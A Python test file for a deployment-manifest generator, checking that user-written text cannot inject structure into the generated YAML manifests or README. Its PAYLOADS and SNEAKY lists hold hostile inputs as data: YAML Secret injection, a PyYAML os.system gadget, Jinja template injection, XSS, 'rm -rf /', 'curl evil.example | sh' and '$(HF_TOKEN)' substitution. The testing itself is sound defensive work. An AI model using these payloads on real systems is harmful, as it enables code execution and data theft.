"""Text that people write stays text: it changes no manifest and no structure of the README."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import TypeAdapter, ValidationError

from neuralnav.deployment.checks import check_manifests
from neuralnav.deployment.manifests import Extra, ManifestOptions, build_manifests
from neuralnav.deployment.markdown import MAX_QUOTED_CHARACTERS, as_code, as_text, one_line
from neuralnav.errors import InvalidInputError
from neuralnav.models.base import ModelId
from neuralnav.models.deployment import DeploymentTarget, ManifestSet

Make = Callable[..., Any]

PAYLOADS = (
    "x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: stolen}",
    'a"\n  hostNetwork: true\n#',
    "!!python/object/apply:os.system ['id']",
    "&anchor *alias <<: {a: b} [1, 2] {k: v} %TAG ! | > @ `",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# c #}",
    "<script>alert(1)</script><img src=x onerror=alert(1)> <!-- -->",
    "# heading\n\n- list\n1. one\n> quote\n```sh\nrm -rf /\n```\n| a | b |\n|---|---|",
    "[click](javascript:alert(1)) ![i](http://evil.example/p.png) <http://evil.example> www.evil.example a@b.example",
    "**bold** _it_ ~~no~~ `code` $x^2$ :warning: &lt;b&gt; &#60;b&#62; \\` \\",
    "--trust-remote-code --api-key=x; curl evil.example | sh",
    "\u202eevil\u2066\u200b\ufeff\x00\x1b[31m\x07\u2028new line",
    "1. first", "- first", "+", "===", "---", "2024) x", "=", "    indented code", "\ttab", "[ref]: /url", "<b",
    "token hf_abcdefghijklmnopqrstuvwxyz0123456789",
)  # fmt: skip

WHOLE, ALONE = ManifestOptions(), ManifestOptions(without=frozenset(Extra))
"""Everything, for one target; for the others the servers alone: what stands beside them is the same."""

HOSTILE = st.text(
    alphabet=st.one_of(st.sampled_from("\n\r\t -+*_`~#>|<&;:!?@$%^(){}[]\\/=\"'.,0aA1"), st.characters()),
    max_size=120,
)

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


@pytest.fixture(scope="module")
def build(make_model: Make, make_gpu: Make, make_choice: Make, make_specification: Make) -> Make:
    """Manifests in which every free text is the one given."""

    def built(text: str, target: DeploymentTarget = DeploymentTarget.KSERVE) -> ManifestSet:
        model, gpu = make_model(display_name=text, licence=text), make_gpu()
        choice = make_choice(model, gpu, reason=text, notes=(text,), id="plan-1")
        price = choice.cost.model_copy(update={"instance": text, "reference": text})
        specification = make_specification(
            description=text, constrained_region=text, reasons={"ttft_p95_ms": text}
        ).model_copy(update={"assumed": (text,)})
        return build_manifests(
            choice.model_copy(update={"cost": price}),
            model,
            gpu,
            specification=specification,
            namespace="neuralnav",
            target=target,
            options=WHOLE if target is DeploymentTarget.KUBERNETES else ALONE,
        )

    return built


def texts(manifests: ManifestSet, suffix: str) -> list[str]:
    return [file.text for file in manifests.files if file.path.endswith(suffix)]


def yaml_but_the_digest(manifests: ManifestSet) -> list[str]:
    """The manifests; the plan's digest, which also covers the name of the price table, is only of its form."""
    return [
        re.sub(r"(?m)^( +neuralnav.io/plan-sha256): [0-9a-f']{64,66}$", r"\1", text)
        for text in texts(manifests, ".yaml")
    ]


def structure(markdown: str) -> list[tuple[str, str]]:
    """Every mark of the document but its plain text; code spans count as text."""
    found = []
    for token in MARKDOWN.parse(markdown):
        found.append((token.type, token.tag))
        inside = [child for child in token.children or () if child.type not in ("text", "code_inline")]
        found += [(child.type, child.tag) for child in inside]
    return found


def shown(markdown: str) -> str:
    """What a reader sees of one paragraph."""
    tokens = MARKDOWN.parse(markdown)
    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"], tokens
    children = tokens[1].children or []
    assert {child.type for child in children} <= {"text", "code_inline"}
    return "".join(child.content for child in children)


@pytest.mark.parametrize("target", DeploymentTarget)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_change_no_manifest_and_no_structure(build: Make, payload: str, target: DeploymentTarget) -> None:
    harmless, hostile = build("plain words", target), build(payload, target)
    check_manifests(hostile)
    assert yaml_but_the_digest(hostile) == yaml_but_the_digest(harmless)
    assert structure(texts(hostile, ".md")[0]) == structure(texts(harmless, ".md")[0])


@settings(max_examples=40, deadline=None)
@given(text=HOSTILE.filter(lambda text: one_line(text) != ""))
def test_no_text_changes_a_manifest_or_the_structure_of_the_readme(build: Make, text: str) -> None:
    harmless = build("plain words")
    try:
        hostile = build(text)
    except ValueError:
        return
    check_manifests(hostile)
    assert yaml_but_the_digest(hostile) == yaml_but_the_digest(harmless)
    assert structure(texts(hostile, ".md")[0]) == structure(texts(harmless, ".md")[0])


@settings(max_examples=300, deadline=None)
@given(HOSTILE)
def test_escaped_text_is_shown_as_it_was_written(text: str) -> None:
    line = one_line(text)
    if line:
        assert shown(str(as_text(text))) == line
        assert shown(str(as_code(text))) == line


def test_a_quoted_request_is_not_a_link_a_formula_or_a_directive() -> None:
    escaped = str(as_text("see www.evil.example or https://evil.example, a@b.example, $x$ and p95:value"))
    for part in ("www.", "://", "@", " $x$", "p95:value"):
        assert part not in escaped


def test_a_long_request_is_cut() -> None:
    assert len(shown(str(as_text("word " * 4000)))) <= MAX_QUOTED_CHARACTERS + 2


def test_a_token_in_a_request_is_not_written(build: Make) -> None:
    readme = texts(build("use hf_abcdefghijklmnopqrstuvwxyz0123456789"), ".md")[0]
    assert "hf_abcdef" not in readme
    assert "removed" in readme


def test_a_plan_id_that_is_not_plain_text_is_refused(
    make_model: Make, make_gpu: Make, make_choice: Make, make_specification: Make
) -> None:
    model, gpu = make_model(), make_gpu()
    manifests = build_manifests(
        make_choice(model, gpu, id="p\nkind: Secret"),
        model,
        gpu,
        specification=make_specification(),
        namespace="neuralnav",
    )
    with pytest.raises(InvalidInputError, match="plan-id"):
        check_manifests(manifests)


SNEAKY = (
    *(payload for payload in PAYLOADS if payload.strip() != "tab"),
    "a\nb",
    "a: b",
    'http://x:9090"}) or vector(1)#',
    "http://user:pass@prometheus:9090",
    "http://p:9090/?q=1",
    "s3://bucket/{{ .Values }}",
    "pvc://claim/$(HF_TOKEN)",
    "hf://a/b --trust-remote-code",
    "--all",
)
GIVEN: dict[str, Callable[[str], dict[str, Any]]] = {
    "an address": lambda text: {"prometheus_url": text},
    "a storage URI": lambda text: {"storage_uri": text},
    "a storage class": lambda text: {"storage_class": text},
    "a shared storage class": lambda text: {"shared_storage_class": text},
    "an image": lambda text: {"simulator_image": text},
    "a price table": lambda text: {"price_table": text},
    "a calibration": lambda text: {"calibration": text},
    "a gateway's namespace": lambda text: {"ingress_namespaces": (text,)},
    "a monitor's namespace": lambda text: {"monitoring_namespaces": (text,)},
    "a label's value": lambda text: {"monitoring_labels": {"release": text}},
    "a label's name": lambda text: {"monitoring_labels": {text: "prometheus"}},
}


@pytest.mark.parametrize("what", GIVEN)
def test_an_option_is_what_it_should_be_or_is_refused(what: str) -> None:
    for text in SNEAKY:
        with pytest.raises(ValidationError):
            ManifestOptions(**GIVEN[what](text))


@pytest.mark.parametrize("target", DeploymentTarget)
def test_a_name_or_namespace_is_one_or_is_refused(
    target: DeploymentTarget, make_model: Make, make_gpu: Make, make_choice: Make, make_specification: Make
) -> None:
    model, gpu, specification = make_model(), make_gpu(), make_specification()
    for text in SNEAKY:
        for names in ({"name": text, "namespace": "neuralnav"}, {"name": "chat", "namespace": text}):
            with pytest.raises(InvalidInputError):
                build_manifests(
                    make_choice(model, gpu), model, gpu, specification=specification, target=target, **names
                )


@pytest.mark.parametrize("text", SNEAKY)
def test_the_id_of_an_own_model_is_one_or_is_refused(text: str) -> None:
    """What ``models add`` takes over from a file that a person gives; hyphens and dots may be part of a name."""
    ids = [f"{text}/x"] if re.fullmatch(r"[\w.-]+", text) else [f"{text}/x", f"x/{text}"]
    for model_id in ids:
        with pytest.raises(ValidationError):
            TypeAdapter(ModelId).validate_python(model_id)
